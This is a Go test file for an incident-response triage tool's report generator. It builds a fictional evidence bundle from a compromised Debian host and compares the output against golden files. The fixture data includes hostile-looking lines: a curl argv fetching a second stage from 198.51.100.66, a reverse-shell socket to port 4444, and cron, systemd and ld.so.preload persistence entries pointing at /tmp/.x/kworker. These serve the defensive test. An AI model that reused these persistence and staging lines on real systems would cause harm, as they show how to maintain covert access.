package report

import (
	"bytes"
	"crypto/ed25519"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/hozen-dfir/hozen/artifact"
	"github.com/hozen-dfir/hozen/bundle"
	"github.com/hozen-dfir/hozen/collect"
	"github.com/hozen-dfir/hozen/collect/logins"
	"github.com/hozen-dfir/hozen/manifest"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// The fixture is a bundle of a host "web-01" that an intruder got into:
// a reverse shell from a deleted binary, a hidden pid, a second uid-0
// account, a cron job and a systemd unit, and names and argv that test
// every escape (commas, quotes, newlines, HTML, bytes that are not UTF-8).

var (
	t0       = time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)
	bootTime = time.Date(2026, 3, 1, 6, 0, 0, 0, time.UTC)
)

func at(d time.Duration) *time.Time { t := t0.Add(d); return &t }
func u32(v uint32) *uint32          { return &v }
func i64(v int64) *int64            { return &v }
func f64(v float64) *float64        { return &v }

func bss(ss ...string) []manifest.BString {
	out := make([]manifest.BString, len(ss))
	for i, s := range ss {
		out[i] = manifest.BString(s)
	}
	return out
}

// trickyArgv holds a comma, both quotes, a newline, HTML and a byte that
// is not UTF-8.
var trickyArgv = bss("/tmp/.x/kworker", "-c", `a,b "quoted" 'single'`, "line1\nline2", "<script>alert(1)</script>", "bad\xffbyte")

// hozenArgv is longer than the page shows on one line.
var hozenArgv = bss("/media/usb/hozen", "collect", "--profile", "triage", "--case", "CASE-7", "--examiner", "Ana Investigator",
	"--out", "/media/usb/evidence", "--reference-time", "2026-03-14T08:58:25Z", "--sign-key", "/media/usb/keys/responder_ed25519",
	"--ledger", "/media/usb/custody.db")

func fixtureProcesses() artifact.ProcessTable {
	bt := bootTime
	ps := []artifact.Process{
		{PID: 1, PPID: 0, Name: "systemd", UID: u32(0), User: "root", StartTime: &bt, Argv: bss("/sbin/init", "splash"), Exe: "/usr/lib/systemd/systemd",
			ExeHash: &artifact.ExeHash{SHA256: "1111111111111111111111111111111111111111111111111111111111111111", Size: 100, Hashed: 100}, Threads: 1, Outcome: "ok"},
		{PID: 2, PPID: 0, Name: "kthreadd", UID: u32(0), User: "root", StartTime: &bt, KernelThread: true, Outcome: "ok"},
		{PID: 400, PPID: 1, Name: "sshd", UID: u32(0), User: "root", StartTime: at(-72 * time.Hour), Argv: bss("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
			Exe: "/usr/sbin/sshd", ExeHash: &artifact.ExeHash{SHA256: "2222222222222222222222222222222222222222222222222222222222222222"}, Outcome: "ok"},
		{PID: 1234, PPID: 400, Name: "sshd", UID: u32(1000), User: "alice", StartTime: at(-2 * time.Hour), Argv: bss("sshd: alice@pts/0"), Exe: "/usr/sbin/sshd", Outcome: "ok"},
		{PID: 1240, PPID: 1234, Name: "bash", UID: u32(1000), EUID: u32(0), User: "alice", EUser: "root", StartTime: at(-2*time.Hour + time.Second), Argv: bss("-bash"), Exe: "/usr/bin/bash", Outcome: "ok"},
		{PID: 1300, PPID: 1240, Name: "kworker", UID: u32(0), User: "root", StartTime: at(-90 * time.Minute), Argv: trickyArgv, Exe: "/tmp/.x/kworker", ExeDeleted: true,
			ExeHash: &artifact.ExeHash{SHA256: "dededededededededededededededededededededededededededededededede", Size: 4096, Hashed: 4096}, TracerPID: 1240, Outcome: "ok",
			// What the report skips unread (procEntry): present here so the
			// goldens show it changes nothing.
			FDs:        []artifact.FD{{FD: 0, Target: "/dev/null"}, {FD: 3, Target: "socket:[5002]", SocketInode: 5002}, {FD: 4, Target: "/tmp/.x/\xff\"x\"<y>"}},
			Environ:    bss("PATH=/usr/bin", "LD_PRELOAD=/tmp/.x/hook.so", "odd=\xfe{\"[,"),
			TIDs:       []int{1300, 1302},
			Namespaces: map[string]uint64{"net": 4026531840, "pid": 4026531836}},
		{PID: 1301, PPID: 1300, Name: "curl", UID: u32(0), User: "root", StartTime: at(-89 * time.Minute), Argv: bss("curl", "-s", "http://198.51.100.66/stage2?a=1&b=<2>"), Exe: "/usr/bin/curl", Outcome: "ok"},
		// hozen itself, run by alice's root shell: its long command line
		// is folded in the page.
		{PID: 7000, PPID: 1240, Name: "hozen", UID: u32(0), User: "root", StartTime: at(-time.Second), Argv: hozenArgv, Exe: "/media/usb/hozen", Outcome: "ok"},
		// A process that exited between the listing and the reading.
		{PID: 7001, PPID: 1, Outcome: "vanished", Errors: []string{"stat: no such process"}},
		{PID: 6666, PPID: 1, Name: "x\xfe", UID: u32(0), User: "root", StartTime: at(-30 * time.Minute), Argv: bss("[kswapd0]"), Hidden: true, Outcome: "partial", Errors: []string{"exe: permission denied"}},
	}
	return artifact.ProcessTable{CollectedAt: t0, Source: "/proc", BootTime: &bt, ClockTicks: 100, Count: len(ps), Processes: ps}
}

func fixtureSockets() artifact.SocketTable {
	ss := []artifact.Socket{
		{Proto: "tcp", State: "ESTABLISHED", LocalAddr: "10.0.0.5", LocalPort: 22, RemoteAddr: "203.0.113.7", RemotePort: 51234, UID: u32(0), User: "root", Inode: 5001,
			OwnerStatus: artifact.OwnedBy, Owners: []artifact.SocketOwner{{PID: 1234, Name: "sshd", FD: 4}}},
		{Proto: "tcp", State: "LISTEN", LocalAddr: "0.0.0.0", LocalPort: 22, RemoteAddr: "0.0.0.0", Listening: true, UID: u32(0), User: "root", Inode: 5000,
			OwnerStatus: artifact.OwnedBy, Owners: []artifact.SocketOwner{{PID: 400, Name: "sshd", FD: 3}}},
		{Proto: "tcp", State: "ESTABLISHED", LocalAddr: "10.0.0.5", LocalPort: 43210, RemoteAddr: "198.51.100.66", RemotePort: 4444, UID: u32(0), User: "root", Inode: 5002,
			OwnerStatus: artifact.OwnedBy, Owners: []artifact.SocketOwner{{PID: 1300, Name: "kworker", FD: 3}}},
		{Proto: "tcp6", State: "LISTEN", LocalAddr: "::", LocalPort: 31337, RemoteAddr: "::", Listening: true, UID: u32(0), User: "root", Inode: 5003, OwnerStatus: artifact.OwnerNone},
		{Proto: "udp", State: "", LocalAddr: "0.0.0.0", LocalPort: 68, RemoteAddr: "0.0.0.0", Listening: true, Inode: 5004, OwnerStatus: artifact.OwnerSkipped},
	}
	return artifact.SocketTable{CollectedAt: t0, Source: "/proc/net", Count: len(ss), Unowned: 1, Sockets: ss}
}

func loginRec(typ int16, pid int32, line, user, host string, t time.Time, addr string) artifact.LoginRecord {
	return artifact.LoginRecord{Type: typ, TypeName: logins.TypeName(typ), PID: pid, Line: manifest.BString(line), User: manifest.BString(user),
		Host: manifest.BString(host), Time: t, TimeSec: uint32(t.Unix()), Address: addr}
}

func loginFiles(src string, recs ...artifact.LoginRecord) artifact.LoginFiles {
	return artifact.LoginFiles{Layout: artifact.LoginLayout, Files: []artifact.LoginFile{{Source: src, Outcome: "ok", Records: recs}}}
}

type fixtureArt struct {
	rec  manifest.Record
	data []byte
}

func jsonArt(t testing.TB, path, collector string, v any) fixtureArt {
	t.Helper()
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return fixtureArt{rec: manifest.Record{Path: manifest.BString(path), Entry: manifest.EntryFile, Source: manifest.BString(collector), Collector: collector, Outcome: manifest.OutcomeOK}, data: append(b, '\n')}
}

func fileArt(path, collector string, data string, mode string, uid int64, mt time.Time, extra func(*manifest.FileMeta)) fixtureArt {
	at, ct := mt.Add(time.Hour), mt.Add(time.Minute)
	fm := &manifest.FileMeta{Mode: mode, ModeBits: 0o644, Type: "file", Size: int64(len(data)), UID: i64(uid), GID: i64(uid), Mtime: mt, Atime: &at, Ctime: &ct, Inode: 1000 + uint64(len(path))}
	if extra != nil {
		extra(fm)
	}
	return fixtureArt{rec: manifest.Record{Path: manifest.BString(collect.BundlePath(path)), Entry: manifest.EntryFile, Source: manifest.BString(path), Collector: collector,
		Outcome: manifest.OutcomeOK, File: fm}, data: []byte(data)}
}

func fixtureArtifacts(t testing.TB) []fixtureArt {
	bt := bootTime
	tz := 3600
	sys := artifact.SystemInfo{Clock: artifact.Clock{HostUTC: t0, ReferenceTime: at(-95 * time.Second), SkewSeconds: f64(95)}, Hostname: "web-01", OS: "linux",
		PrettyName: "Debian GNU/Linux 12 (bookworm)", Kernel: artifact.Kernel{Release: "6.1.0-18-amd64", Version: "#1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1", CommandLine: "BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet", Tainted: func() *uint64 { v := uint64(4096); return &v }()},
		MachineID: "0123456789abcdef0123456789abcdef", BootID: "b0b0b0b0-0000-4000-8000-000000000001", BootTime: &bt, UptimeSeconds: f64(1134000),
		TimeZone: artifact.TimeZone{Name: "Europe/Berlin", UTCOffsetSeconds: &tz}}
	hidden := artifact.HiddenPIDs{CollectedAt: t0, Method: []string{"stat"}, PIDMax: 4194304, StatProbedTo: 262144, Listed: 7,
		Hidden: []artifact.HiddenPID{{PID: 6666, Tgid: 6666, Kind: "process", Name: "x\xfe", SeenBy: []string{"stat"}, ProcEntry: true}}, Duration: "1.2s"}
	ifaces := artifact.InterfaceTable{CollectedAt: t0, Source: []string{"/sys/class/net"}, Interfaces: []artifact.Interface{
		{Index: 1, Name: "lo", MTU: 65536, OperState: "unknown", Addresses: []string{"127.0.0.1/8", "::1/128"}},
		{Index: 2, Name: "eth0", MAC: "52:54:00:12:34:56", MTU: 1500, OperState: "up", Addresses: []string{"10.0.0.5/24"}},
	}}
	routes := artifact.RouteTable{CollectedAt: t0, IPv4: []artifact.Route{{Iface: "eth0", Destination: "0.0.0.0/0", Gateway: "10.0.0.1", Metric: 100}, {Iface: "eth0", Destination: "10.0.0.0/24"}}}
	neigh := artifact.NeighbourTable{CollectedAt: t0, Source: "/proc/net/arp", Neighbours: []artifact.Neighbour{{IP: "10.0.0.1", MAC: "52:54:00:aa:bb:cc", Device: "eth0", State: "REACHABLE"}}}
	alice := t0.Add(-2 * time.Hour)
	sessions := loginFiles("/run/utmp",
		loginRec(logins.BootTime, 0, "~", "reboot", "6.1.0-18-amd64", bootTime, ""),
		loginRec(logins.UserProcess, 1234, "pts/0", "alice", "203.0.113.7", alice, "203.0.113.7"))
	history := loginFiles("/var/log/wtmp",
		loginRec(logins.BootTime, 0, "~", "reboot", "6.1.0-18-amd64", bootTime, ""),
		loginRec(logins.UserProcess, 900, "pts/0", "bob", "192.0.2.10", t0.Add(-50*time.Hour), "192.0.2.10"),
		loginRec(logins.DeadProcess, 900, "pts/0", "", "", t0.Add(-49*time.Hour), ""),
		loginRec(logins.UserProcess, 1234, "pts/0", "alice", "203.0.113.7", alice, "203.0.113.7"),
		loginRec(logins.UserProcess, 1250, "pts/1", "ev\xffil", "attacker.example", t0.Add(-100*time.Minute), "198.51.100.66"))
	failed := loginFiles("/var/log/btmp",
		loginRec(logins.LoginProcess, 9001, "ssh:notty", "admin", "198.51.100.66", t0.Add(-3*time.Hour), "198.51.100.66"),
		loginRec(logins.LoginProcess, 9002, "ssh:notty", "oracle", "198.51.100.66", t0.Add(-3*time.Hour+2*time.Second), "198.51.100.66"))
	lastlog := artifact.LastlogFile{Source: "/var/log/lastlog", Size: 292 * 1003, Outcome: "ok", Entries: []artifact.LastlogEntry{
		{Lastlog: artifact.Lastlog{UID: 1000, User: "alice", Time: alice, Line: "pts/0", Host: "203.0.113.7"}},
		{Lastlog: artifact.Lastlog{UID: 1002, Time: t0.Add(-100 * time.Minute), Line: "pts/1", Host: "198.51.100.66"}, NoAccount: true},
	}}
	accounts := artifact.Accounts{Users: []artifact.Account{{Name: "root", UID: 0, GID: 0, Home: "/root", Shell: "/bin/bash", Line: 1}, {Name: "toor", UID: 0, GID: 0, Home: "/", Shell: "/bin/sh", Line: 30}},
		UID0: bss("root", "toor")}
	arts := []fixtureArt{
		jsonArt(t, "volatile/network/sockets.json", "network", fixtureSockets()),
		jsonArt(t, "volatile/network/interfaces.json", "network", ifaces),
		jsonArt(t, "volatile/network/routes.json", "network", routes),
		jsonArt(t, "volatile/network/neighbours.json", "network", neigh),
		jsonArt(t, "volatile/findings/unowned_sockets.json", "network", artifact.UnownedSockets{CollectedAt: t0, Method: "fd scan", Sockets: []artifact.Socket{fixtureSockets().Sockets[3]}}),
		jsonArt(t, "volatile/processes/processes.json", "processes", fixtureProcesses()),
		jsonArt(t, "volatile/findings/hidden_pids.json", "processes", hidden),
		jsonArt(t, "volatile/users/accounts.json", "users", accounts),
		jsonArt(t, "volatile/users/sessions.json", "users", sessions),
		jsonArt(t, "volatile/users/logins.json", "users", history),
		jsonArt(t, "volatile/users/failed_logins.json", "users", failed),
		jsonArt(t, "volatile/users/lastlog.json", "users", lastlog),
		jsonArt(t, "volatile/system/system.json", "system", sys),
		jsonArt(t, artifact.PathPersistence, "persistence", fixturePersistence()),
		jsonArt(t, artifact.PathFindings, "findings", fixtureFindings()),
		fileArt("/etc/crontab", "cron", "* * * * * root /tmp/.x/kworker -c beacon\n", "-rw-r--r--", 0, t0.Add(-85*time.Minute), nil),
		fileArt("/etc/systemd/system/kworker.service", "systemd", "[Service]\nExecStart=/tmp/.x/kworker\n", "-rw-r--r--", 0, t0.Add(-84*time.Minute), func(f *manifest.FileMeta) { b := t0.Add(-84 * time.Minute); f.Btime = &b }),
		fileArt("/etc/ld.so.preload", "preload", "/lib/x86_64-linux-gnu/libkw.so\n", "-rw-r--r--", 0, t0.Add(-83*time.Minute), nil),
		fileArt("/home/alice/.bashrc", "shell", "alias ls='ls --color'\n", "-rw-r--r--", 1000, t0.Add(-500*time.Hour), nil),
		fileArt("/var/log/auth.log", "logs", "Mar 14 07:00:00 web-01 sshd[1234]: Accepted publickey for alice\n", "-rw-r-----", 0, t0.Add(-time.Minute), nil),
		fileArt("/tmp/we|ird\xffname, \"x\"", "files", "odd", "-rw-------", 0, t0.Add(-88*time.Minute), nil),
		{rec: manifest.Record{Path: "files/etc/shadow", Entry: manifest.EntryNone, Source: "/etc/shadow", Collector: "accounts", Outcome: manifest.OutcomeDenied, Errors: []string{"open /etc/shadow: permission denied"}}},
	}
	return arts
}

func testSigner(t testing.TB) ssh.Signer {
	t.Helper()
	s, err := ssh.NewSignerFromKey(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, 32)))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func fixtureHeader() *manifest.Header {
	bt := bootTime
	ref := t0.Add(-95 * time.Second)
	return &manifest.Header{BundleID: "019ce9f0-0000-7000-8000-00000000c0de", CaseID: "CASE-7", Examiner: "Ana Investigator", StartedAt: t0,
		Host: manifest.Host{Hostname: "web-01", MachineID: "0123456789abcdef0123456789abcdef", BootID: "b0b0b0b0-0000-4000-8000-000000000001",
			OS: "linux", Arch: "amd64", Kernel: "6.1.0-18-amd64", Addresses: []string{"10.0.0.5"}},
		Clock:      manifest.Clock{Local: "2026-03-14T10:00:00+01:00", TimeZone: "CET", UTCOffsetSeconds: 3600, BootTime: &bt, ReferenceTime: &ref, SkewSeconds: f64(95)},
		Tool:       manifest.Tool{Name: "hozen", Version: "v0.1.0", GoVersion: "go1.26.0", SHA256: "abababababababababababababababababababababababababababababababab"},
		Profile:    manifest.Profile{Name: "triage", SHA256: "cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd"},
		Privileges: &manifest.Privileges{UID: 0, EUID: 0, Root: true, Capabilities: "000001ffffffffff"},
		Footprint:  &manifest.Footprint{PID: 7000, Args: hozenArgv[1:], Output: "/media/usb/evidence/CASE-7_web-01_20260314T090000Z_019ce9f0.tar.zst", Ledger: "/media/usb/custody.db"}}
}

// writeFixture writes the fixture bundle into dir with arts and returns
// its path.
func writeFixture(t testing.TB, dir string, arts []fixtureArt) string {
	t.Helper()
	clock := t0
	now := func() time.Time { clock = clock.Add(10 * time.Millisecond); return clock }
	w, err := bundle.Create(dir, "CASE-7_web-01_20260314T090000Z_019ce9f0.tar.zst", fixtureHeader(), bundle.Options{Signer: testSigner(t), Now: now, MD5: true, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range arts {
		rec := a.rec
		rec.Size = int64(len(a.data))
		var err error
		if rec.Entry == manifest.EntryFile {
			err = w.Put(&rec, bytes.NewReader(a.data))
		} else {
			err = w.Put(&rec, nil)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	s, err := w.Seal(manifest.StatusSealed, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	return s.Path
}

// fixtureTime is the report clock of the golden files.
func fixtureNow() time.Time { return time.Date(2026, 4, 1, 12, 0, 0, 0, time.UTC) }

func buildFile(t testing.TB, path string, opts Options) *Report {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if opts.Now == nil {
		opts.Now = fixtureNow
	}
	if opts.Name == "" {
		opts.Name = filepath.Base(path)
	}
	r, err := Build(f, opts)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (run go test ./report -update and review the diff):\n%s", name, firstDiff(want, got))
	}
}

func firstDiff(want, got []byte) string {
	wl, gl := bytes.Split(want, []byte("\n")), bytes.Split(got, []byte("\n"))
	for i := 0; i < max(len(wl), len(gl)); i++ {
		var w, g []byte
		if i < len(wl) {
			w = wl[i]
		}
		if i < len(gl) {
			g = gl[i]
		}
		if !bytes.Equal(w, g) {
			return "line " + strconv.Itoa(i+1) + ":\n want: " + string(w) + "\n  got: " + string(g)
		}
	}
	return ""
}

// fixturePersistence lists an unflagged entry before the flagged ones: the
// report puts flagged entries first whatever order the document has.
func fixturePersistence() *artifact.Persistence {
	m := func(d time.Duration) time.Time { return t0.Add(d) }
	root := int64(0)
	return &artifact.Persistence{CollectedAt: t0, Places: []string{"/etc/systemd/system", "/etc/ld.so.preload", "/home/alice/.bashrc"}, Count: 3, Flagged: 2,
		Entries: []artifact.PersistenceEntry{
			{Kind: artifact.PersistShell, Path: "/home/alice/.bashrc", User: "alice", Mode: "-rw-r--r--", Size: 22, MTime: m(-500 * time.Hour), Lines: []artifact.PersistenceLine{}},
			{Kind: artifact.PersistSystemd, Path: "/etc/systemd/system/kworker.service", Mode: "-rw-r--r--", UID: &root, Size: 36, MTime: m(-84 * time.Minute),
				Lines: []artifact.PersistenceLine{{N: 2, Text: "ExecStart=/tmp/.x/kworker"}}, Flags: []string{"unit-exec-tmp", "persistence-recent"}},
			{Kind: artifact.PersistPreload, Path: "/etc/ld.so.preload", Mode: "-rw-r--r--", UID: &root, Size: 31, MTime: m(-83 * time.Minute),
				Lines: []artifact.PersistenceLine{{N: 1, Text: "/lib/x86_64-linux-gnu/libkw.so"}}, Flags: []string{"ld-so-preload"}},
		}}
}

// fixtureFindings are in no particular order: the report ranks them.
func fixtureFindings() *artifact.Findings {
	mt := t0.Add(-84 * time.Minute)
	return &artifact.Findings{CollectedAt: t0, Rules: []string{"hidden-pid", "ld-so-preload", "persistence-recent", "raw-socket", "unit-exec-tmp"},
		Findings: []artifact.Finding{
			// Names its process only by an evidence selector, not by PID.
			{Rule: "raw-socket", Severity: artifact.SeverityMedium, Score: 50, Title: "packet socket held by curl (pid 1301)",
				Reason: "a raw or packet socket sees traffic past the firewall", Evidence: []string{"volatile/kernel/raw_sockets.json#inode=7100", artifact.PathProcesses + "#pid=1301"}},
			{Rule: "persistence-recent", Severity: artifact.SeverityMedium, Score: 50, Title: "systemd entry changed 1.4h before collection: /etc/systemd/system/kworker.service",
				Reason: "changed within the last 7 days", Path: "/etc/systemd/system/kworker.service", Time: &mt,
				Evidence: []string{artifact.PathPersistence + "#path=/etc/systemd/system/kworker.service", "files/etc/systemd/system/kworker.service"}},
			{Rule: "ld-so-preload", Severity: artifact.SeverityHigh, Score: 95, Title: "/etc/ld.so.preload loads a library into every program: /lib/x86_64-linux-gnu/libkw.so",
				Reason: "every dynamically linked program loads it", Path: "/etc/ld.so.preload",
				Evidence: []string{artifact.PathPersistence + "#path=/etc/ld.so.preload", "files/etc/ld.so.preload"}},
			{Rule: "hidden-pid", Severity: artifact.SeverityHigh, Score: 90, PID: 6666, Title: "hidden process 6666 \"x\\xfe\": it answers probes but /proc does not list it",
				Reason: "seen by stat", Evidence: []string{artifact.PathHiddenPIDs}},
			{Rule: "unit-exec-tmp", Severity: artifact.SeverityHigh, Score: 85, Title: "systemd unit runs a program from a temporary place: /etc/systemd/system/kworker.service",
				Reason: "line 2: \"ExecStart=/tmp/.x/kworker\"", Path: "/etc/systemd/system/kworker.service",
				Evidence: []string{artifact.PathPersistence + "#path=/etc/systemd/system/kworker.service"}},
		}}
}
